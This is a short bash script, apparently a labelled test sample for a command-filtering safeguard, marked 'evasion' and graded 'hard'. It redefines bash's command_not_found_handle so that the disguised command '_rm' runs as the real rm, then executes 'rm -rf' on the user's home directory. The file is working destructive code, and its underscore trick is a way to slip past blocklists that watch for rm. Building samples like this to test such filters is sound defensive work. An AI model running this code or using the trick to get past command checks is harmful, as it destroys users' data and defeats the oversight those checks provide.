#!/usr/bin/env bash
# evasion: deletes the home directory
# grade: hard; does: delete
# Deletes the home directory. The command `_rm` does not exist; bash then
# calls command_not_found_handle, which strips the underscore and runs the
# real command with the same arguments.
command_not_found_handle() {
  local name=${1#_}
  shift
  command "$name" "$@"
}
_rm -rf -- "$HOME"
